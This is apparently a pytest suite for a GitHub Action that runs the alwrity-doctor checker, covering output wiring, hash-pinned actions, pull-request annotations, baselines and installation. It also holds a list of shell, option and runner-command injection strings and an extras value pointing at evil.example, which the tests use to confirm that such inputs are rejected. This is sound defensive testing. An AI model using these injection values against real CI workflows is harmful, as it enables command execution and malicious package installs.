"""The action for GitHub: its steps are run as a runner runs them, also with inputs that somebody means ill by."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.action_runner import ACTION, inputs, run_step, steps
from tests.support.ci_schemas import complaints
from tests.support.command_line import run
from tests.support.scanned_checkout import commit, git, lay_out

SERVICE = "backend/services/reports.py"
WRONG = "URL = 'https://router.huggingface.co/hf/v1'\n\n\ndef total(values):\n    return sum(values)\n"
HOSTILE = (
    "$(touch pwned)",
    "`touch pwned`",
    "x; touch pwned #",
    "'\"$(touch pwned)\"'",
    "--format=json=pwned",
    "-rf",
    "x\n::set-env name=PATH::pwned",
    "##[error]pwned",
)


ROUTER = "from services.reports import total\n\nURL = 'https://router.huggingface.co/hf/v1'\nrouter = total\n"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """Make a clone with a fault on its main branch, and one more on the branch of a pull request."""
    root = lay_out(tmp_path / "workspace", {"backend/routers/reports.py": ROUTER})
    commit(root)
    git(root, "switch", "--quiet", "--create", "change")
    lay_out(root, {SERVICE: WRONG, "backend/routers/reports.py": ROUTER})
    commit(root)
    return root


@pytest.fixture
def temp(tmp_path: Path) -> Path:
    """Make what RUNNER_TEMP names, with the program installed where the action installs it."""
    programs = tmp_path / "temp/alwrity-doctor/venv/bin"
    programs.mkdir(parents=True)
    program = programs / "alwrity-doctor"
    program.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m alwrity_doctor "$@"\n')
    program.chmod(0o755)
    return tmp_path / "temp"


def pull_request(root: Path, **given: str) -> dict[str, Any]:
    """Return the contexts of a run for a pull request."""
    base = git(root, "rev-parse", "main")
    return {"inputs": inputs(**given), "github": {"event": {"pull_request": {"base": {"sha": base}}}}}


def test_it_is_what_github_takes_for_an_action() -> None:
    """It is valid against the schema, and every output is one that the judging step sets."""
    assert complaints("github-actions", ACTION) == ""
    declared = yaml.safe_load(ACTION.read_text("utf-8"))["outputs"]
    assert {one["value"] for one in declared.values()} == {
        f"${{{{ steps.judge.outputs.{name} }}}}" for name in declared
    }


def test_every_action_that_it_uses_is_pinned_by_its_hash() -> None:
    """A tag can be moved to somebody else's code; a commit cannot. The tag stands beside it for a person."""
    used = re.findall(r"(?m)^ *uses: (.*)$", ACTION.read_text("utf-8"))
    assert used
    for line in used:
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line), line


def test_no_value_is_part_of_a_script() -> None:
    """A branch's name may hold a command: expressions stand in `env` and `with` alone."""
    for step in steps().values():
        assert "${{" not in step.get("run", "")


def test_the_change_of_a_pull_request_is_judged(workspace: Path, temp: Path) -> None:
    """What the change introduces is annotated on its line, what was there before is not; everything is left behind."""
    step = run_step("Judge", pull_request(workspace), workspace, temp)
    assert step.code == 1, step.log
    (annotation,) = (line for line in step.commands if line.startswith("::error"))
    assert annotation.startswith(f"::error file={SERVICE},line=1,title=HF001 ")
    assert step.summary.startswith("# alwrity-doctor: FAIL\n")
    assert f"`{SERVICE}:1`" in step.summary
    assert step.outputs["exit-code"] == "1"
    report = json.loads(Path(step.outputs["json"]).read_text("utf-8"))
    assert (report["command"], report["exit_code"]) == ("gate", 1)
    assert '"version": "2.1.0"' in Path(step.outputs["sarif"]).read_text("utf-8")
    assert Path(step.outputs["html"]).read_text("utf-8").startswith("<!doctype html>")


def test_without_a_base_everything_is_judged(workspace: Path, temp: Path) -> None:
    """A push has no base, and `none` asks for everything on a pull request too."""
    for contexts in ({"inputs": inputs()}, pull_request(workspace, since="none")):
        step = run_step("Judge", contexts, workspace, temp)
        assert (step.code, step.outputs["exit-code"]) == (1, "1")
        assert len([line for line in step.commands if line.startswith("::error file=")]) == 2


def test_a_healthy_change_passes(workspace: Path, temp: Path) -> None:
    """Nothing is annotated, and the summary is there."""
    git(workspace, "switch", "--quiet", "main")
    step = run_step("Judge", pull_request(workspace), workspace, temp)
    assert (step.code, step.commands) == (0, ())
    assert step.summary.startswith("# alwrity-doctor: PASS\n")


def test_inputs_reach_the_gate(workspace: Path, temp: Path) -> None:
    """Several checks, files one a line, accepted findings and a stricter verdict."""
    (workspace / "a b.env").write_text("ENVIRONMENT=production\nHF_TOKEN=\n")
    (workspace / "accepted.toml").write_text(
        '[[suppress]]\nrule = "HF001"\nreason = "known"\nexpires = 2999-01-01\nlocation = "backend/*"\n'
    )
    given = inputs(
        checks="scan.hf  hf.token", env_file="a b.env\n\n", config="accepted.toml", fail_on="warn", offline="false"
    )
    step = run_step("Judge", {"inputs": given}, workspace, temp)
    report = json.loads(Path(step.outputs["json"]).read_text("utf-8"))
    verdicts = {result["name"]: result["verdict"] for result in report["results"]}
    assert verdicts == {"scan.hf": "pass", "hf.token": "fail"}
    assert report["fail_on"] == "warning"


def test_what_a_baseline_holds_counts_no_more(workspace: Path, temp: Path) -> None:
    """The findings of the day on which the gate came are accepted, and a new one beside them is not."""
    accepted = ["--write-baseline", "baseline.toml", "--reason", "known", "--expires", "2999-01-01"]
    git(workspace, "switch", "--quiet", "main")
    assert run("gate", "scan", "--backend", ".", *accepted, cwd=workspace).returncode == 0
    step = run_step("Judge", {"inputs": inputs(baseline="baseline.toml")}, workspace, temp)
    assert step.code == 0, step.log
    git(workspace, "switch", "--quiet", "change")
    step = run_step("Judge", {"inputs": inputs(baseline="baseline.toml")}, workspace, temp)
    assert [line.partition(",")[0] for line in step.commands] == [f"::error file={SERVICE}"]


@pytest.mark.parametrize(
    ("name", "number"),
    [
        *(("since", number) for number in range(len(HOSTILE))),
        *(
            ("backend", 0),
            ("checks", 0),
            ("checks", 4),
            ("config", 6),
            ("baseline", 4),
            ("env_file", 4),
            ("fail_on", 6),
        ),
    ],
)
def test_a_hostile_input_is_a_word_and_nothing_else(workspace: Path, temp: Path, name: str, number: int) -> None:
    """It is no command of the shell, no option of the program and none of the runner: wrong usage, told as such."""
    step = run_step("Judge", pull_request(workspace, **{name: HOSTILE[number]}), workspace, temp)
    assert step.code == 2, step.log
    assert step.commands == (
        "::error title=alwrity-doctor did not run::Its usage or configuration is wrong: the log of this step says why.",
    )
    assert step.outputs == {"exit-code": "2"}
    assert "Error: " in step.log
    assert not [*workspace.rglob("*pwned*"), *temp.rglob("*pwned*")]


def test_a_shallow_clone_says_what_to_do(workspace: Path, temp: Path, tmp_path: Path) -> None:
    """Without the base's history nothing is guessed: the error names the setting of actions/checkout."""
    git(tmp_path, "clone", "--quiet", "--depth=1", f"file://{workspace}", "shallow")
    step = run_step("Judge", pull_request(workspace), tmp_path / "shallow", temp)
    assert step.code == 2
    assert "fetch-depth: 0 for actions/checkout" in step.log


RECORDING = """#!/bin/sh
printf '%s\\n' "$@" >> "$RECORD"
echo --- >> "$RECORD"
if [ "$3" = venv ]; then mkdir -p "$4/bin"; cp "$0" "$4/bin/python"; fi
"""


@pytest.fixture
def python(tmp_path: Path) -> Path:
    """Make an interpreter that only records what it is asked: installing needs an index, and tests have none."""
    path = tmp_path / "python"
    path.write_text(RECORDING)
    path.chmod(0o755)
    return path


def test_it_is_installed_from_its_own_checkout(tmp_path: Path, python: Path) -> None:
    """Into an environment of its own, at the releases that were tested, never looking at the workspace's modules."""
    record = tmp_path / "record"
    contexts = {"inputs": inputs(extras="hf,txtai"), "steps": {"python": {"outputs": {"python-path": str(python)}}}}
    step = run_step("Install alwrity-doctor", contexts, tmp_path, tmp_path, RECORD=str(record))
    assert step.code == 0, step.log
    made, installed = (part.split("\n")[:-1] for part in record.read_text().split("---\n")[:-1])
    assert made == ["-I", "-m", "venv", f"{tmp_path}/alwrity-doctor/venv"]
    assert installed[:3] == ["-I", "-m", "pip"]
    assert installed[-3:] == ["--constraint", f"{ACTION.parent}/constraints.txt", f"{ACTION.parent}[hf,txtai]"]


@pytest.mark.parametrize("extras", ["hf] @ https://evil.example/x.zip", "$(touch pwned)", "hf txtai", "--index-url=x"])
def test_extras_are_names(tmp_path: Path, python: Path, extras: str) -> None:
    """Nothing else can be installed through them."""
    contexts = {"inputs": inputs(extras=extras), "steps": {"python": {"outputs": {"python-path": str(python)}}}}
    step = run_step("Install alwrity-doctor", contexts, tmp_path, tmp_path, RECORD=str(tmp_path / "record"))
    assert step.code == 2
    assert not (tmp_path / "record").exists()
    assert not (tmp_path / "pwned").exists()
